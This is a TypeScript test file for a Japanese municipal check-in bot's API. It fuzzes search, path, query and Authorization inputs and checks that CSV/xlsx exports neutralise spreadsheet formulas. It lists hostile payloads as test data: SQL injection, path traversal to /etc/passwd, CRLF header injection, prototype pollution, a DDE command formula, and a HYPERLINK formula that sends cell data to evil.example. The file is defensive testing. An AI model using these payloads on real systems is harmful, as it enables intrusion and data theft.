import fs from 'node:fs';
import http from 'node:http';
import { ValueType, Workbook } from 'exceljs';
import fc from 'fast-check';
import { startApp, type RunningApp } from '../../bot/app';
import type { CheckIn } from '../../bot/checkins/model';
import { neutralizeFormula, restoreNeutralized } from '../../shared/formula-guard';
import { readTable } from '../../bot/checkins/spreadsheet/read-table';
import { loadDemoData } from '../../bot/demo/demo-data';
import { loadConfig } from '../../bot/platform/config';
import type { Logger } from '../../bot/platform/logger';
import { hasLoneSurrogate, hostileText, JAPANESE, runs } from '../support/hostile-inputs';
import { tempDir } from '../support/processes';

const { initiatives: demoInitiatives, inquiries: demoInquiries, rulings: demoRulings } = loadDemoData();

/**
 * The JSON API with hostile input, on the real server in-process (demo data, real SQLite file):
 * search queries full of FTS5 syntax, path parameters that try to leave their route, query
 * parameters of the wrong type or repeated, odd Authorization headers, and check-in text that a
 * spreadsheet would run as a formula. Every answer is a 4xx with a clear Japanese message or a
 * correct answer, never a 5xx; the server keeps answering /healthz.
 */
jest.setTimeout(runs(30_000)); // longer searches (HOSTILE_RUNS_FACTOR) get proportionally more time

describe('hostile input on the JSON API', () => {
  let app: RunningApp;
  let dataDir: string;
  const loggedErrors: string[] = [];
  const logger: Logger = {
    debug() {},
    info() {},
    warn() {},
    error: (message, fields) =>
      void loggedErrors.push(`${message}: ${(fields?.error as Error | undefined)?.message ?? JSON.stringify(fields)}`),
  };
  const demo = (personId: string) => ({ Authorization: `Demo ${personId}` });

  beforeAll(async () => {
    dataDir = tempDir('renkei-hostile-api-');
    // Hundreds of requests a second from one address: lift the API's rate limits (a 429 is a 4xx, but hides the answer).
    const config = loadConfig({
      APP_DATA_DIR: dataDir,
      CHECKIN_SCHEDULER_INTERVAL_SECONDS: '0',
      INQUIRY_DEADLINE_INTERVAL_SECONDS: '0',
      API_RATE_PER_IP: '1000000/60',
      API_RATE_PER_USER: '1000000/60',
    });
    config.port = 0;
    app = await startApp(config, logger);
  });

  afterAll(async () => {
    await app?.stop();
    fs.rmSync(dataDir, { recursive: true, force: true });
  });

  afterEach(async () => {
    expect(loggedErrors.splice(0)).toEqual([]);
    expect((await fetch(`${app.url}/healthz`)).status).toBe(200);
  });

  /**
   * A GET with the path sent byte for byte as given (fetch would normalise `..` and `%2e`) and
   * any latin-1 header values; resolves to the status and the body.
   */
  function rawGet(
    path: string,
    headers: Record<string, string> = {},
  ): Promise<{ status: number; body: string; headers: http.IncomingHttpHeaders }> {
    const { hostname, port } = new URL(app.url);
    return new Promise((resolve, reject) => {
      const request = http.request({ hostname, port, path, method: 'GET', headers }, (response) => {
        const chunks: Buffer[] = [];
        response.on('data', (chunk: Buffer) => chunks.push(chunk));
        response.on('end', () =>
          resolve({ status: response.statusCode ?? 0, body: Buffer.concat(chunks).toString('utf8'), headers: response.headers }),
        );
        response.on('error', reject);
      });
      request.on('error', reject);
      request.end();
    });
  }

  /** A 4xx must say what is wrong in Japanese, briefly, in the API's error shape. */
  function expectClearError(status: number, body: string) {
    expect(status).toBeGreaterThanOrEqual(400);
    expect(status).toBeLessThan(500);
    if (status === 431 || status === 414) return; // refused by Node's HTTP parser before any route
    const { error } = JSON.parse(body) as { error: { code: string; message: string } };
    expect(typeof error.code).toBe('string');
    expect(error.message).toMatch(JAPANESE);
    expect(error.message.length).toBeLessThan(400); // what was sent is quoted in part, never echoed whole
    expect(hasLoneSurrogate(error.message)).toBe(false);
  }

  const wellFormed = (text: string) => text.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, '\ufffd');
  /** URL-encodes any string, lone surrogates included (as the bytes a broken client would send). */
  const encode = (text: string) => encodeURIComponent(wellFormed(text));

  // ---------------------------------------------------------------------------------------------
  // Search
  // ---------------------------------------------------------------------------------------------

  const FTS_QUERIES = [
    'NEAR(',
    'NEAR(国保 喪失, 2)',
    'NEAR(a b',
    '*',
    '国保*',
    '"',
    '"国保',
    '""""',
    'OR',
    'AND',
    'NOT',
    '国保 OR 喪失',
    'a AND OR NOT b',
    '-',
    '-国保',
    '^',
    '^国保',
    'title:',
    'title:国保',
    'keywords:喪失 body:x',
    '{title keywords}: 国保',
    '(',
    ')',
    '((国保)',
    '国保) OR (',
    "'",
    "' OR 1=1 --",
    '"); DROP TABLE rulings; --',
    'rulings_fts MATCH 1',
    '\u0000',
    '\u0001\u0002\u001b[0m\u007f',
    '\t\r\n',
    '😀🇯🇵👨‍👩‍👧‍👦',
    'が\u3099ぱ\u309a', // combining (han)dakuten
    'e\u0301\u0301\u0301',
    '\u202e国保\u202c',
    'ｺｸﾎ ｿｳｼﾂ',
    '国保'.repeat(5000), // 10,000 characters
    'x'.repeat(10_000),
    '%',
    '%00',
  ];

  it.each(['/api/rulings', '/api/rulings/search'])(
    'answers FTS5 syntax, control characters and 10,000 characters in %s?q= with 200 or 400, never 500',
    async (route) => {
      for (const q of FTS_QUERIES) {
        const response = await fetch(`${app.url}${route}?q=${encode(q)}`);
        if (response.status === 400) {
          expectClearError(response.status, await response.text());
          continue;
        }
        expect({ q: q.slice(0, 40), status: response.status }).toEqual({ q: q.slice(0, 40), status: 200 });
        const body = (await response.json()) as unknown[] | { results: unknown[] };
        expect(Array.isArray(route === '/api/rulings' ? body : (body as { results: unknown[] }).results)).toBe(true);
      }
      // Percent-encoding that is not UTF-8, or not percent-encoding at all.
      for (const raw of ['%', '%zz', '%ED%A0%80', '%C0%AF', '%FF%FE', '%E3%81', 'a%00b', '%%%']) {
        const response = await rawGet(`${route}?q=${raw}`);
        if (response.status !== 200) expectClearError(response.status, response.body);
      }
    },
  );

  it('answers any search text, with any filters, with 200 and an array or a 400', async () => {
    const query = fc.tuple(
      fc.oneof(
        hostileText,
        fc.constantFrom(...FTS_QUERIES),
        fc.string({ unit: 'grapheme', maxLength: 30 }).map((s) => `NEAR(${s}`),
      ),
      fc.option(fc.oneof(fc.constantFrom('1', '100', '0', '101', '-1', '1e2', '10.5', 'abc', ''), hostileText), { nil: undefined }),
      fc.option(fc.oneof(fc.constantFrom('current', 'superseded', 'all', 'ALL'), hostileText), { nil: undefined }),
      fc.option(fc.oneof(fc.constantFrom('2026', '2025', '0000', '99999', 'R8'), hostileText), { nil: undefined }),
      fc.option(hostileText, { nil: undefined }),
    );
    await fc.assert(
      fc.asyncProperty(query, async ([q, limit, status, year, department]) => {
        const params = [`q=${encode(q)}`];
        if (limit !== undefined) params.push(`limit=${encode(limit)}`);
        if (status !== undefined) params.push(`status=${encode(status)}`);
        if (year !== undefined) params.push(`year=${encode(year)}`);
        if (department !== undefined) params.push(`department=${encode(department)}`);
        const response = await fetch(`${app.url}/api/rulings?${params.join('&')}`);
        const text = await response.text();
        if (response.status !== 200) return expectClearError(response.status, text);
        const hits = JSON.parse(text) as { id: string; title: string; score: number }[];
        expect(Array.isArray(hits)).toBe(true);
        const max = limit !== undefined && /^\d+$/.test(limit) ? Number(limit) : 10;
        expect(hits.length).toBeLessThanOrEqual(max);
        for (const hit of hits) expect(Number.isFinite(hit.score)).toBe(true);
      }),
      { numRuns: runs(150) },
    );
  });

  // ---------------------------------------------------------------------------------------------
  // Path parameters
  // ---------------------------------------------------------------------------------------------

  const PATH_ATTACKS = [
    '..%2f..%2fpackage.json',
    '..%2F..%2F..%2Fpackage.json',
    '%2e%2e%2f%2e%2e%2fpackage.json',
    '..%5c..%5cpackage.json',
    '....%2f%2fpackage.json',
    '%252e%252e%252fpackage.json',
    '..;%2fpackage.json',
    '%00',
    'R-0001%00',
    'A1-1%00.json',
    'Q-R8-0001%00',
    '%0d%0aSet-Cookie:%20x=1',
    '%ED%A0%80',
    '%C0%AE%C0%AE%2f',
    '%',
    '%zz',
    encodeURIComponent('x'.repeat(10_000)),
    encodeURIComponent('国'.repeat(5_000)),
    encodeURIComponent('Ｒ－０００１'),
    encodeURIComponent('R-0001\u200b'),
    encodeURIComponent('__proto__'),
    encodeURIComponent('constructor'),
    encodeURIComponent("' OR '1'='1"),
    encodeURIComponent('😀'),
  ];
  const PATH_ROUTES: [string, (param: string) => string][] = [
    ['/api/rulings/:id', (p) => `/api/rulings/${p}`],
    ['/api/inquiries/:number', (p) => `/api/inquiries/${p}`],
    ['/api/checkins/:code/history', (p) => `/api/checkins/${p}/history?fy=2026&q=2`],
    ['/api/analytics/initiatives/:code', (p) => `/api/analytics/initiatives/${p}`],
  ];

  it.each(PATH_ROUTES)(
    'answers traversal, NUL, broken encodings and very long ids in %s with a 4xx, never a file or a 500',
    async (_name, path) => {
      for (const attack of PATH_ATTACKS) {
        const response = await rawGet(path(attack), demo('p-pmo'));
        expect({ attack: attack.slice(0, 40), status: response.status < 500 }).toEqual({ attack: attack.slice(0, 40), status: true });
        expect(response.body).not.toContain('"dependencies"');
        expect(response.headers['set-cookie']).toBeUndefined();
        if (response.status !== 404 || response.body.startsWith('{')) expectClearError(response.status, response.body);
      }
    },
  );

  it('answers any path parameter with a 4xx unless it names a record the caller may read', async () => {
    const existing = new Set([
      ...demoRulings.map((r) => r.id),
      ...demoInquiries.map((i) => i.number),
      ...demoInitiatives.map((i) => i.code),
    ]);
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...PATH_ROUTES),
        fc.oneof(hostileText, fc.constantFrom(...existing)),
        fc.constantFrom('p-pmo', 'p-ward-staff', 'p-hq-responder'),
        async ([, path], id, person) => {
          if (encode(id) === '') return;
          const response = await rawGet(path(encode(id)), demo(person));
          if (response.status === 200) expect(existing.has(id)).toBe(true);
          else expectClearError(response.status, response.body);
        },
      ),
      { numRuns: runs(150) },
    );
  });

  // ---------------------------------------------------------------------------------------------
  // Query parameters of the wrong type, repeated
  // ---------------------------------------------------------------------------------------------

  it.each([
    ['/api/checkins/export?fy=2026&fy=2027&q=3', 'p-pmo'],
    ['/api/checkins/export?fy[]=2026&q=3', 'p-pmo'],
    ['/api/checkins/export?fy=2026&q[]=3', 'p-pmo'],
    ['/api/checkins/export?fy=2026&q=3&q=5', 'p-pmo'],
    ['/api/checkins/export?fy=2026&q=3&format=csv&format=xlsx', 'p-pmo'],
    ['/api/checkins/export?fy=%EF%BC%92%EF%BC%90%EF%BC%92%EF%BC%96&q=3', 'p-pmo'], // full-width ２０２６
    ['/api/checkins/export?fy=2026.0&q=3.0', 'p-pmo'],
    ['/api/checkins/export?fy=0x7EA&q=3', 'p-pmo'],
    ['/api/checkins/export?fy=2026&q=3&format=../../etc/passwd', 'p-pmo'],
    ['/api/checkins/A1-2/history?fy=2026&q=2&fy=abc', 'p-pmo'],
    ['/api/checkins/A1-2/history?fy=abc&fy=2026&q=2', 'p-pmo'],
    ['/api/checkins/A1-2/history?fy[]=2026&q=2', 'p-pmo'],
    ['/api/inquiries?scope=all&scope=mine', 'p-ward-staff'],
    ['/api/inquiries?scope[]=all', 'p-ward-staff'],
    ['/api/inquiries?scope=ALL', 'p-pmo'],
    ['/api/inquiries?status=open&status=all&scope=__proto__', 'p-pmo'],
    ['/api/analytics?fy=2026&fy=abc', 'p-pmo'],
    ['/api/analytics?department=hq-hoken-nenkin&department=../../x', 'p-pmo'],
    ['/api/analytics?department[]=hq-hoken-nenkin', 'p-pmo'],
    [`/api/analytics?department=${'x'.repeat(5000)}`, 'p-pmo'],
    ['/api/rulings?q=国保&q=喪失&limit=5&limit=abc', 'p-pmo'],
    ['/api/rulings?q[]=x&limit[]=5', 'p-pmo'],
    ['/api/rulings?q[$ne]=x&status[]=all', 'p-pmo'],
    ['/api/rulings?__proto__[polluted]=1&constructor[prototype][polluted]=1', 'p-pmo'],
    ['/api/rulings?year=2026&year=abcd&fiscalYear=9999', 'p-pmo'],
  ])('answers %s with a 4xx or a correct answer', async (path, person) => {
    const response = await rawGet(encodeURI(decodeURI(path)), demo(person));
    expect(response.status).toBeLessThan(500);
    if (response.status >= 400) expectClearError(response.status, response.body);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('uses the first of repeated parameters, as URLSearchParams does', async () => {
    const exported = await rawGet('/api/checkins/export?fy=2026&fy=2027&q=3&format=csv', demo('p-pmo'));
    expect(exported.status).toBe(200);
    expect(exported.headers['content-disposition']).toContain('initiatives_FY2026Q3.csv');
    const history = await rawGet('/api/checkins/A1-2/history?fy=abc&fy=2026&q=2', demo('p-pmo'));
    expect(history.status).toBe(400); // the first fy is the one read
    const list = JSON.parse((await rawGet('/api/inquiries?scope=all&scope=mine', demo('p-ward-staff'))).body) as {
      error?: { code: string };
    };
    expect(list.error?.code).toBe('Forbidden'); // scope=all, for ward staff
  });

  // ---------------------------------------------------------------------------------------------
  // Authorization headers
  // ---------------------------------------------------------------------------------------------

  const ODD_AUTHORIZATION = [
    '',
    'Demo',
    'Demo ',
    `Demo ${'a'.repeat(10_000)}`,
    'Demo ../../',
    'Demo ../../etc/passwd',
    'Demo p-pmo/../p-admin',
    'Demo p-pmo p-admin',
    'Demo p-pmo,Demo p-admin',
    'Demo __proto__',
    'Demo constructor',
    'Demo P-PMO',
    'demo p-pmo',
    'DEMO p-pmo',
    'Demo \u00ffp-pmo',
    'Demo p-pmo;',
    "Demo ' OR 1=1 --",
    'Demo %70-pmo',
    'Bearer',
    'Bearer ',
    'Bearer junk',
    'Bearer eyJhbGciOiJub25lIn0.eyJvaWQiOiI2YjFlMGMzYS0wMDA0LTQwMDAtODAwMC0wMDAwMDAwMDAwMDQifQ.',
    `Bearer ${'x'.repeat(10_000)}`,
    'Basic cC1wbW86cC1wbW8=',
    'Negotiate TlRMTVNTUAABAAAAB4IIogAAAAAAAAAAAAAAAAAAAAAGAbEdAAAADw==',
  ];

  it('answers odd Authorization headers with 401, never a 500', async () => {
    for (const authorization of ODD_AUTHORIZATION) {
      for (const path of ['/api/me', '/api/inquiries', '/api/checkins/export?fy=2026&q=3', '/api/analytics/initiatives/A1-2']) {
        const response = await rawGet(path, { Authorization: authorization });
        expect({ authorization: authorization.slice(0, 40), path, status: response.status }).toEqual({
          authorization: authorization.slice(0, 40),
          path,
          status: 401,
        });
        expectClearError(response.status, response.body);
      }
    }
    // Surrounding white space (latin-1 NBSP included) is not part of the id: the same person.
    for (const authorization of ['Demo\tp-pmo', ' Demo p-pmo ', 'Demo p-pmo\u00a0'])
      expect((await rawGet('/api/me', { Authorization: authorization })).status).toBe(200);
    // Over Node's 128 KB header limit: refused by the HTTP parser.
    const huge = await rawGet('/api/me', { Authorization: `Demo ${'a'.repeat(200_000)}` });
    expect(huge.status).toBe(431);
  });

  it('answers any latin-1 Authorization header with 401 unless it names a demo person', async () => {
    const people = new Set(['p-ward-staff', 'p-hq-responder', 'p-hq-approver', 'p-pmo', 'p-ward-manager', 'p-admin']);
    const latin1 = fc.string({
      unit: fc
        .integer({ min: 0x20, max: 0xff })
        .filter((c) => c !== 0x7f)
        .map((c) => String.fromCharCode(c)),
      maxLength: 80,
    });
    await fc.assert(
      fc.asyncProperty(
        fc.oneof(
          latin1,
          latin1.map((s) => `Demo ${s}`),
          latin1.map((s) => `Bearer ${s}`),
        ),
        async (authorization) => {
          const response = await rawGet('/api/me', { Authorization: authorization });
          const match = /^Demo\s+(\S+)$/.exec(authorization.trim());
          if (match && people.has(match[1])) return void expect(response.status).toBe(200);
          expect(response.status).toBe(401);
          expectClearError(response.status, response.body);
        },
      ),
      { numRuns: runs(150) },
    );
  });

  // ---------------------------------------------------------------------------------------------
  // The export: text a spreadsheet would run as a formula
  // ---------------------------------------------------------------------------------------------

  const FORMULA_TEXTS = [
    '\u0001=1+1',
    '\uffff=1+1',
    '\ufffe\uffff',
    '=1+2',
    '=HYPERLINK("http://evil.example/?x="&A1,"詳細")',
    '+SUM(A1:A9)',
    '-2+3',
    '@SUM(1)',
    '\t=1+1',
    '\r=1+1',
    "\r\n=cmd|'/C calc'!A0",
    "'=already quoted",
    "''+twice",
    '-',
    '=',
    '+81-3-0000-0000',
  ];
  const answer = (code: string, fiscalYear: number, quarter: 1 | 2 | 3 | 4, texts: [string, string, string]): CheckIn => ({
    initiativeCode: code,
    fiscalYear,
    quarter,
    progress: texts[0],
    weather: '晴れ',
    direction: '見直し',
    directionReason: texts[1],
    nextActions: texts[2],
    kpiActuals: demoInitiatives.find((i) => i.code === code)!.kpis.map((kpi, n) => ({ kpiId: kpi.id, value: n === 0 ? -5 : null })),
    submittedBy: 'p-pmo',
    submittedAt: '2026-11-20T10:00:00+09:00',
    revision: 1,
    submissionId: `hostile:${code}:${fiscalYear}Q${quarter}`,
  });

  /** A text as an xlsx cell reads back: characters XML cannot hold dropped, then guarded; CR read as LF. */
  const inXlsx = (text: string) =>
    neutralizeFormula(wellFormed(text).replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f\ufffe\uffff]/g, '')).replace(/\r\n?/g, '\n');

  async function exported(fiscalYear: number, quarter: number) {
    const download = async (format: string) => {
      const response = await fetch(`${app.url}/api/checkins/export?fy=${fiscalYear}&q=${quarter}&format=${format}`, {
        headers: demo('p-pmo'),
      });
      expect(response.status).toBe(200);
      return Buffer.from(await response.arrayBuffer());
    };
    const csvRows = await readTable(await download('csv'), 'export.csv');
    const workbook = new Workbook();
    await workbook.xlsx.load((await download('xlsx')) as unknown as Parameters<typeof workbook.xlsx.load>[0]);
    const sheet = workbook.worksheets[0];
    const xlsxRows: { type: ValueType; value: unknown; formula?: string }[][] = [];
    sheet.eachRow((row, rowNumber) => {
      const cells: { type: ValueType; value: unknown; formula?: string }[] = [];
      row.eachCell(
        { includeEmpty: true },
        (cell, column) => void (cells[column - 1] = { type: cell.type, value: cell.value, formula: cell.formula }),
      );
      xlsxRows[rowNumber - 1] = cells;
    });
    return { csvRows, xlsxRows };
  }

  /** No cell of either file can start a formula: a text starting with = + - @ tab or CR carries a leading '. */
  // One expectation per rule over all cells (not one per cell): the same checks, and the failure lists every offender.
  function expectNeutralised({ csvRows, xlsxRows }: Awaited<ReturnType<typeof exported>>) {
    const formulaLike = /^[=+\-@\t\r]/;
    // A negative number is a number, not text.
    expect(csvRows.flat().filter((cell) => formulaLike.test(cell) && !/^-\d+(\.\d+)?$/.test(cell))).toEqual([]);
    const cells = xlsxRows.flatMap((row) => row ?? []).filter((cell) => cell);
    expect(cells.filter((cell) => cell.formula).map((cell) => cell.formula)).toEqual([]);
    expect(
      cells.filter((cell) => ![ValueType.Null, ValueType.String, ValueType.Number].includes(cell.type)).map((cell) => cell.type),
    ).toEqual([]);
    expect(
      cells.filter((cell) => cell.type === ValueType.String && formulaLike.test(cell.value as string)).map((cell) => cell.value),
    ).toEqual([]);
  }

  it('neutralises every check-in and initiative text that starts like a formula, in CSV and xlsx alike', async () => {
    const codes = demoInitiatives.map((i) => i.code);
    // Three texts per answer (進捗状況, 方向性理由, 課題・次のアクション), one answer per initiative.
    const triples: [string, string, string][] = [];
    for (let n = 0; n < FORMULA_TEXTS.length; n += 3)
      triples.push([0, 1, 2].map((i) => FORMULA_TEXTS[(n + i) % FORMULA_TEXTS.length]) as [string, string, string]);
    for (const [n, triple] of triples.entries())
      expect((await app.store.checkIns.submit(answer(codes[n], 2026, 3, triple))).outcome).toBe('created');
    const initiative = demoInitiatives[0];
    await app.store.initiatives.upsert({
      ...initiative,
      code: 'Z9-1',
      title: "=cmd|' /C calc'!A0",
      purpose: '@SUM(1)',
      milestone: '+1',
      activities: '\t=2',
      q4Target: '-1',
      kpis: [],
    });
    const files = await exported(2026, 3);
    expectNeutralised(files);
    const header = files.csvRows[0];
    const columns = ['進捗状況', '方向性理由', '課題・次のアクション'].map((name) => header.indexOf(name));
    const z91 = files.csvRows.find((row) => row[0] === 'Z9' && row[1] === '1')!;
    expect(z91.slice(0, 12)).toEqual(expect.arrayContaining(["'=cmd|' /C calc'!A0", "'@SUM(1)", "'+1", "'\t=2", "'-1"]));
    for (const [n, triple] of triples.entries()) {
      const [lead, branch] = codes[n].split(/-(.*)/s);
      const row = files.csvRows.find((r) => r[0] === lead && r[1] === branch)!;
      const xlsxRow = files.xlsxRows.find((r) => r?.[0]?.value === lead && r?.[1]?.value === branch)!;
      columns.forEach((column, i) => {
        // CSV: guarded, and read back exactly as stored.
        expect(row[column]).toBe(neutralizeFormula(triple[i]));
        expect(restoreNeutralized(row[column])).toBe(triple[i]);
        // xlsx: guarded too; XML reads a carriage return as a line feed, the cell still starts with the quote.
        expect(xlsxRow[column].value).toBe(inXlsx(triple[i]));
      });
    }
  });

  it('neutralises any text in the export and gives it back unchanged', async () => {
    const codes = demoInitiatives.map((i) => i.code);
    // Text as the bot stores it (no NUL: the bot drops control characters), with formula-like starts.
    const cellText = fc
      .tuple(
        fc.constantFrom('', '=', '+', '-', '@', '\t', '\r', "'", "'=", ' =', '＝', '-1'),
        fc.oneof(hostileText, fc.string({ unit: 'grapheme', maxLength: 20 })),
      )
      .map(([start, rest]) => `${start}${rest}`.replace(/\u0000/g, '').slice(0, 2000));
    let round = 0;
    await fc.assert(
      fc.asyncProperty(fc.array(fc.tuple(cellText, cellText, cellText), { minLength: 1, maxLength: 4 }), async (texts) => {
        round += 1;
        const fiscalYear = 2030 + round; // a quarter of its own for each run
        for (const [n, triple] of texts.entries()) await app.store.checkIns.submit(answer(codes[n], fiscalYear, 1, triple));
        const files = await exported(fiscalYear, 1);
        expectNeutralised(files);
        const header = files.csvRows[0];
        const columns = ['進捗状況', '方向性理由', '課題・次のアクション'].map((name) => header.indexOf(name));
        for (const [n, triple] of texts.entries()) {
          const [lead, branch] = codes[n].split(/-(.*)/s);
          const csvRow = files.csvRows.find((r) => r[0] === lead && r[1] === branch)!;
          const xlsxRow = files.xlsxRows.find((r) => r?.[0]?.value === lead && r?.[1]?.value === branch)!;
          columns.forEach((column, i) => {
            const stored = wellFormed(triple[i]);
            // CSV keeps everything, line breaks inside quotes included, and reads back exactly.
            expect(csvRow[column] ?? '').toBe(neutralizeFormula(stored));
            expect(restoreNeutralized(csvRow[column] ?? '')).toBe(stored);
            // XML cannot hold other control characters and U+FFFE/U+FFFF (dropped), and reads CR as LF.
            const xlsxText = (xlsxRow[column]?.value as string | null | undefined) ?? '';
            expect(xlsxText).toBe(inXlsx(stored));
          });
        }
      }),
      { numRuns: runs(12) },
    );
  });
});
